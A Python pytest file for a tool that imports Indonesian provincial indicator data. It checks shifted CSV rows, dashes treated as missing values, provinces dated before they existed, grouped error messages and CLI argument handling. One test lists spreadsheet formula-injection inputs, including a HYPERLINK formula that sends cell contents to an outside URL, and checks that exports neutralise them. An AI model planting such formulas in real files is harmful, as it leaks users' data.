"""Rows as provincial offices write them, second pass (issue 21): a row shifted by an unquoted
decimal comma in a file whose lines end with a comma, a dash for "none", a province in a year
before it existed, the reasons shown as text on the page, and an empty --out in the shell."""

from __future__ import annotations

import io
import os
import subprocess
import sys

import openpyxl
import pandas as pd
import pytest

from inklusi import imports
from inklusi.config import REPO
from inklusi.export import files
from tests.apptest import open_app, unescaped
from tests.samples import GOOD, HEADER, check, held, rows

SHIFTED = "Jawa Tengah,2024,akses_internet_umkm,58,2,persen,Diskominfo 2024"
ROW = "{province},2024,akses_internet_umkm,{value},persen,Diskominfo 2024"
PROVINCES = ("Aceh", "Bali", "Jawa Barat", "Jawa Timur", "Banten", "Maluku")


def indicator_lines(shifted_at: int) -> list[str]:
    """Six rows, the one at file row shifted_at written with an unquoted decimal comma."""
    body = [ROW.format(province=p, value=f"{40 + k}.5") for k, p in enumerate(PROVINCES)]
    body[shifted_at - 2] = SHIFTED
    return body


# ---- 1. a shifted row in a file whose lines end with a comma ------------------------------------


@pytest.mark.parametrize(
    "header_end, row_end",
    [
        ("", ","),  # the header ends with `note`, every row with an empty note: `...,Diskominfo 2024,`
        (",", ",,"),  # every line ends with a comma after the note column, the header's too
        ("", ",,"),  # rows carry one empty field more than the header, all of them alike
    ],
)
def test_a_shifted_row_is_held_back_when_lines_end_with_a_comma(header_end, row_end):
    lines = ["province,year,indicator,value,unit,source,note" + header_end]
    lines += [line + row_end for line in indicator_lines(shifted_at=4)]
    result = check(("\n".join(lines) + "\n").encode(), kind="indicators")
    assert held(result) == {(4, None, "too_many_values")}, result.problems
    assert sorted(result.accepted["province"]) == sorted(
        ["11", "51", "35", "36", "81"]
    )  # Jawa Barat (row 4) is the shifted one
    assert "58" not in {str(v) for v in result.accepted["value"]} and "2" not in set(result.accepted["unit"])
    assert set(result.accepted["unit"]) == {"persen"} and set(result.accepted["source"]) == {"Diskominfo 2024"}


def test_rows_with_fewer_trailing_fields_than_the_header_are_read():
    """Some tools drop trailing empty fields: a row shorter than the header is not shifted."""
    lines = ["province,year,indicator,value,unit,source,note,"]
    lines += [ROW.format(province=p, value="40.5") + ("" if k % 2 else ",") for k, p in enumerate(PROVINCES)]
    result = check(("\n".join(lines) + "\n").encode(), kind="indicators")
    assert len(result.accepted) == 6 and not held(result)


# ---- 2. a dash is text or "no value", never a refusal of the row ---------------------------------


def typed_workbook(records: list[list]) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    for record in records:
        sheet.append(record)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def test_a_typed_excel_file_with_dashes_in_its_optional_area_column_is_read_whole():
    columns = HEADER.split(",") + ["area"]
    records = [columns]
    for n in range(1, 16):
        cells = GOOD.format(n=n).split(",") + ["-"]
        records.append([float(c) if c.isdigit() else c for c in cells])
    result = check(typed_workbook(records), name="kabupaten.xlsx")
    assert len(result.accepted) == 15 and not held(result)
    assert result.accepted["area"].isna().all()
    notices = [p for p in result.problems if p.key == "dash_empty"]
    assert [(p.column, p.values["count"]) for p in notices] == [("area", 15)]
    assert "area" in notices[0].text("en") and "area" in notices[0].text("id")


def test_a_records_file_with_aliases_and_dashes_keeps_every_row():
    aliases = ("Jabar", "Prov. NTT", "DKI", "Jatim", "Kalbar", "Sumut")
    lines = [HEADER + ",main_channel,age_band"]
    for n in range(1, 13):
        row = GOOD.format(n=n).replace("Jawa Barat", aliases[n % len(aliases)])
        lines.append(row + (",-,–" if n > 1 else ",marketplace,25-34"))
    result = check(("\n".join(lines) + "\n").encode())
    assert len(result.accepted) == 12 and not held(result)
    assert result.accepted["main_channel"].isna().sum() == 11 and result.accepted["age_band"].isna().sum() == 11
    assert {p.column for p in result.problems if p.key == "dash_empty"} == {"main_channel", "age_band"}


@pytest.mark.parametrize(
    "value", ["=1+1", '=HYPERLINK("http://example.com/?d="&A1,"klik")', "+62812", "-tanpa", "@SUM"]
)
def test_text_beginning_like_a_formula_is_kept_as_typed_and_exported_inert(value):
    content = HEADER + "\n" + GOOD.format(n=1).replace("pendampingan-2024", f'"{value.replace(chr(34), 2 * chr(34))}"')
    result = check((content + "\n").encode())
    assert list(result.accepted["programme"]) == [value] and not held(result)
    view = files.View("", {}, imports.mentoring_table(result.accepted))
    written = pd.read_csv(io.BytesIO(files.encode(view, "csv")), dtype=str)
    assert list(written["programme"]) == [f"'{value}"]  # OWASP: a leading apostrophe, the text kept
    book = openpyxl.load_workbook(io.BytesIO(files.encode(view, "xlsx")))
    cells = [c for row in book["data"].iter_rows() for c in row]
    assert value in [c.value for c in cells] and not [c for c in cells if c.data_type == "f"]


@pytest.mark.parametrize("dash", ["-", "–", " - "])
def test_a_lone_dash_in_a_required_column_is_a_missing_value(dash):
    content = (HEADER + "\n" + GOOD.format(n=1) + "\n" + GOOD.format(n=2).replace("makanan", dash) + "\n").encode()
    result = check(content)
    assert list(result.accepted["id"]) == ["P-1"] and held(result) == {(3, "sector", "blank")}


def test_a_lone_dash_in_the_value_column_is_no_value_not_zero():
    lines = ["province,year,indicator,value,unit,source"]
    lines += ["Aceh,2024,akses_internet_umkm,-,persen,Diskominfo 2024", "Bali,2024,akses_internet_umkm,41.5,persen,x"]
    result = check(("\n".join(lines) + "\n").encode(), kind="indicators")
    assert len(result.accepted) == 2 and not held(result)
    assert pd.isna(result.accepted.loc[result.accepted["province"] == "11", "value"]).all()
    assert [(p.column, p.values["count"]) for p in result.problems if p.key == "dash_empty"] == [("value", 1)]


# ---- 3. a province in a year before it existed ---------------------------------------------------


@pytest.mark.parametrize(
    "province, codes, parent",
    [
        ("97", "bps", "Papua"),
        ("Papua Pegunungan", "", "Papua"),
        ("95", "kemendagri", "Papua"),
        ("PBD", "", "West Papua"),
    ],
)
def test_a_province_before_it_existed_is_held_back_naming_its_parent(province, codes, parent):
    lines = ["province,year,indicator,value,unit,source", f"{province},2021,akses_internet_umkm,30.5,persen,x"]
    lines.append("Aceh,2021,akses_internet_umkm,50.5,persen,x")
    result = check(("\n".join(lines) + "\n").encode(), kind="indicators", codes=codes)
    assert held(result) == {(2, "province", "not_yet")} and list(result.accepted["province"]) == ["11"]
    problem = next(p for p in result.problems if p.key == "not_yet")
    text = problem.text("en")
    assert "2021" in text and "2022" in text and f"part of {parent}." in text
    assert "2021" in problem.text("id") and "bagian dari" in problem.text("id")


def test_a_province_from_its_first_year_on_is_read():
    lines = ["province,year,indicator,value,unit,source", "97,2022,akses_internet_umkm,30.5,persen,x"]
    lines.append("Papua Pegunungan,2024,akses_internet_umkm,31.5,persen,x")
    result = check(("\n".join(lines) + "\n").encode(), kind="indicators", codes="bps")
    assert list(result.accepted["province"]) == ["95", "95"] and not held(result)


def test_a_mentoring_record_in_a_province_before_it_existed_is_held_back():
    lines = [HEADER, GOOD.format(n=1), GOOD.format(n=2).replace("2024,Jawa Barat", "2021,Papua Selatan")]
    lines[2] = lines[2].replace("2024-05-06,2024-07-29", "2021-05-06,2021-07-29")
    result = check(("\n".join(lines) + "\n").encode())
    assert list(result.accepted["id"]) == ["P-1"] and held(result) == {(3, "province", "not_yet")}


# ---- 4. the reasons are text on the page -----------------------------------------------------------


def test_the_page_gives_the_reasons_as_text_grouped_by_kind():
    lines = [HEADER, *rows(10)]
    for n in range(3, 10):  # seven rows out of range: the first five are written out
        lines[n - 1] = lines[n - 1].replace(",42,", ",420,")
    lines[10] = lines[10].replace("Jawa Barat", "Jawa Baratt")
    for lang, words in (("en", "outside the range"), ("id", "di luar rentang")):
        at = open_app({"lang": lang}, "app_pages/import.py")
        at.file_uploader(key="import.file").upload("kantor.csv", ("\n".join(lines) + "\n").encode()).run()
        assert not at.exception, at.exception
        blocks = [unescaped(m.value) for m in at.markdown]
        groups = [block for block in blocks if words in block or "Jawa Baratt" in block]
        assert len(groups) == 2, blocks  # one block per kind of reason
        ranges = next(block for block in groups if words in block)
        assert "pre_score" in ranges.splitlines()[0] and "7" in ranges.splitlines()[0]  # column, rows held
        assert ranges.splitlines()[-1].startswith("- …") and ranges.splitlines()[-1].endswith(" 2.")
        assert not any(f" {row}: " in ranges for row in (8, 9))
        assert all(any(f" {row}: " in line for line in ranges.splitlines()) for row in (3, 4, 5, 6, 7))
        assert "Jawa Baratt" in next(block for block in groups if "Jawa Baratt" in block)


# ---- the shell: an empty --out -----------------------------------------------------------------------


@pytest.mark.parametrize("out", ["", "   "])
def test_an_empty_out_is_one_line_and_exit_2(tmp_path, out):
    done = subprocess.run(
        [sys.executable, "-m", "inklusi", "export", "--query", "national_series", "--param", "indicator=imdi"]
        + ["--format", "csv", "--out", out],
        capture_output=True,
        text=True,
        cwd=tmp_path,
        timeout=120,
        env={**os.environ, "PYTHONPATH": str(REPO)},
    )
    assert done.returncode == 2 and "Traceback" not in done.stderr and len(done.stderr.strip().splitlines()) == 1
    assert "--out" in done.stderr and list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("out", ["", "/"])
def test_the_notebook_api_refuses_a_path_that_names_no_file(out):
    from inklusi import api
    from inklusi.errors import InklusiError

    with pytest.raises(InklusiError, match="names a folder"):
        api.open().export(out, format="csv", query="national_series", params={"indicator": "imdi"})
